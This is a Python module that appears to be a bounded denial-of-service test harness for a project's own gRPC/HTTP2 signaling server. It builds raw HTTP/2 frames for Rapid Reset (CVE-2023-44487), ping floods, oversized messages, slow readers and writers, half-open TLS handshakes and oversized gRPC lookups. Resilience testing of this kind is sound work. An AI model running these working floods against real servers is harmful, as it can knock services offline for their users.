"""Hostile clients, bounded in count and in time: raw HTTP/2, where no library would send this.

Who attacks has a certificate of the domain, as a tenant has; or none, and sends half a handshake.
Each attack ends by itself. What the server cuts off is opened again until the count is reached.
"""

from __future__ import annotations

import asyncio
import ssl
import struct
from collections.abc import AsyncIterator, Awaitable, Callable, Coroutine, Iterable, Iterator
from contextlib import asynccontextmanager, suppress
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from typing import Any
from uuid import uuid4

import grpc

from common import rpc
from common.pb.vsignal.v1 import signaling_pb2 as pb
from common.pb.vsignal.v1 import signaling_pb2_grpc
from common.pb.vsignal.v1.types_pb2 import VmKey
from common.tls import vcenter_name
from deploy.domain import Domain
from vcenter.wire.lookup import MAX_KEYS

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, WINDOW = 0, 1, 3, 4, 6, 8
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW = 4
ATTACKER = "tenant/mallory"
CANCEL = struct.pack("!I", 8)
LOOKUP, WATCH = "/vsignal.v1.Directory/Lookup", "/vsignal.v1.Directory/Watch"

Attack = Callable[["Target", int], Awaitable[int]]


@dataclass(frozen=True, slots=True)
class Target:
    """A vCenter's port, and its domain, which knows the attacker as a tenant."""

    host: str
    port: int
    domain: Domain

    @property
    def address(self) -> str:
        return f"{self.host}:{self.port}"


@cache
def _tls(identity: Path, ca: Path) -> ssl.SSLContext:
    context = ssl.create_default_context(cafile=str(ca))
    context.load_cert_chain(str(identity))
    context.set_alpn_protocols(["h2"])
    return context


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload


def headers(path: str) -> bytes:
    """HPACK, every field literal and never indexed (RFC 7541, 6.2.3)."""
    fields = {
        ":method": "POST",
        ":scheme": "https",
        ":path": path,
        ":authority": "localhost",
        "te": "trailers",
        "content-type": "application/grpc",
    }
    texts = (text.encode() for pair in fields.items() for text in pair)
    pieces = [bytes([len(text)]) + text for text in texts]
    return b"".join(
        b"\x10" + name + value for name, value in zip(pieces[::2], pieces[1::2], strict=True)
    )


@asynccontextmanager
async def connection(target: Target) -> AsyncIterator[asyncio.StreamWriter]:
    """A connection whose answers are thrown away."""
    files, name = target.domain.identity(ATTACKER), vcenter_name(target.domain.name)
    context = _tls(files.identity, files.ca)
    reader, writer = await asyncio.open_connection(
        target.host, target.port, ssl=context, server_hostname=name
    )
    ignoring = asyncio.create_task(_ignore(reader))
    try:
        yield writer
    finally:
        ignoring.cancel()
        writer.transport.abort()


async def _ignore(reader: asyncio.StreamReader) -> None:
    with suppress(OSError):
        while await reader.read(1 << 16):
            pass


async def all_of(parts: Iterable[Coroutine[None, None, None]], at_a_time: int = 10_000) -> None:
    """Each to its end, so many at a time."""
    turn = asyncio.Semaphore(at_a_time)

    async def one(part: Coroutine[None, None, None]) -> None:
        async with turn:
            await part

    await asyncio.gather(*(one(part) for part in parts))


def streams() -> Iterator[int]:
    return iter(range(1, 2**31, 2))


async def rapid_reset(target: Target, count: int) -> int:
    """HEADERS and RST_STREAM at once (CVE-2023-44487)."""
    opening = headers(LOOKUP)

    def pair(stream: int) -> bytes:
        return frame(HEADERS, END_HEADERS, stream, opening) + frame(RST, 0, stream, CANCEL)

    return await _again_and_again(target, count, pair)


async def ping_flood(target: Target, count: int) -> int:
    return await _again_and_again(target, count, lambda n: frame(PING, 0, 0, bytes(8)))


async def _again_and_again(target: Target, count: int, what: Callable[[int], bytes]) -> int:
    sent = 0
    while sent < count:
        with suppress(OSError):
            async with connection(target) as writer:
                writer.write(PREFACE + frame(SETTINGS, 0, 0))
                for stream in streams():
                    if sent >= count or writer.transport.is_closing():
                        break
                    writer.write(what(stream))
                    sent += 1
                    if sent % 50 == 0:
                        await writer.drain()
                        await asyncio.sleep(0)
        await asyncio.sleep(0.005)
    return sent


async def giant_messages(target: Target, count: int) -> int:
    """Each says that 100 MB follow, and sends as much as it is let."""
    size = 100 << 20
    for _ in range(count):
        with suppress(OSError, TimeoutError):
            async with asyncio.timeout(5), connection(target) as writer:
                writer.write(PREFACE + frame(SETTINGS, 0, 0))
                writer.write(frame(HEADERS, END_HEADERS, 1, headers(LOOKUP)))
                writer.write(frame(DATA, 0, 1, b"\x00" + struct.pack("!I", size)))
                for _ in range(size // 16_384):
                    if writer.transport.is_closing():
                        break
                    writer.write(frame(DATA, 0, 1, bytes(16_384)))
                    await writer.drain()
    return count


async def slow_writers(target: Target, count: int) -> int:
    """A call each, of which one byte comes every half second."""

    async def one() -> None:
        with suppress(OSError):
            async with connection(target) as writer:
                writer.write(PREFACE + frame(SETTINGS, 0, 0))
                writer.write(frame(HEADERS, END_HEADERS, 1, headers(LOOKUP)))
                for byte in b"\x00\x00\x00\x10\x00" * 2:
                    writer.write(frame(DATA, 0, 1, bytes([byte])))
                    await asyncio.sleep(0.5)

    await all_of(one() for _ in range(count))
    return count


async def slow_readers(target: Target, count: int) -> int:
    """A watch each, of everything, and not a byte of the answer is let through."""

    async def one() -> None:
        with suppress(OSError):
            async with connection(target) as writer:
                shut = struct.pack("!HI", INITIAL_WINDOW, 0)
                writer.write(PREFACE + frame(SETTINGS, 0, 0, shut))
                writer.write(frame(HEADERS, END_HEADERS, 1, headers(WATCH)))
                writer.write(frame(DATA, END_STREAM, 1, bytes(5)))
                await asyncio.sleep(5)

    await all_of(one() for _ in range(count))
    return count


async def half_open(target: Target, count: int) -> int:
    """Connections that begin a TLS handshake and then say nothing."""
    begun = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
    writers: list[asyncio.StreamWriter] = []
    try:
        for number in range(count):
            with suppress(OSError):
                _, writer = await asyncio.open_connection(target.host, target.port)
                writer.write(begun)
                writers.append(writer)
            if number % 100 == 0:
                await asyncio.sleep(0.01)
        await asyncio.sleep(3)
        return len(writers)
    finally:
        for writer in writers:
            writer.transport.abort()


async def long_lookups(target: Target, count: int) -> int:
    """As many keys as a call may have; a hundred calls at a time, whatever is answered."""
    request = pb.LookupRequest(keys=[VmKey(vm_id=str(uuid4())) for _ in range(MAX_KEYS)])
    async with _client(target) as signaling:

        async def one() -> None:
            with suppress(grpc.aio.AioRpcError):
                await signaling.Lookup(request, timeout=30)

        await all_of((one() for _ in range(count)), at_a_time=100)
    return count


async def endless_streams(target: Target, count: int) -> int:
    """Fifty calls, each with lookups one behind the other for as long as the attack lasts."""
    request = pb.LookupRequest(keys=[VmKey(vm_id=str(uuid4())) for _ in range(100)])
    sent = 0

    async def one(signaling: Any) -> None:
        nonlocal sent
        while sent < count:
            stream = signaling.LookupStream()
            with suppress(grpc.aio.AioRpcError):
                while sent < count:
                    await stream.write(request)
                    sent += 1
                    await stream.read()
            await asyncio.sleep(0.1)

    async with _client(target) as signaling:
        with suppress(TimeoutError):
            async with asyncio.timeout(5):
                await all_of(one(signaling) for _ in range(50))
    return sent


@asynccontextmanager
async def _client(target: Target) -> AsyncIterator[Any]:
    """What a library does send, too much of it."""
    async with rpc.channel(target.address, target.domain.bundle(ATTACKER)) as channel:
        yield signaling_pb2_grpc.SignalingStub(channel)


ATTACKS: dict[str, tuple[Attack, int]] = {
    "HEADERS and RST": (rapid_reset, 20_000),
    "pings": (ping_flood, 20_000),
    "messages of 100 MB": (giant_messages, 10),
    "slow writers": (slow_writers, 200),
    "slow readers": (slow_readers, 200),
    "half-open handshakes": (half_open, 5_000),
    "lookups of 10,000 keys": (long_lookups, 500),
    "endless streams": (endless_streams, 20_000),
}
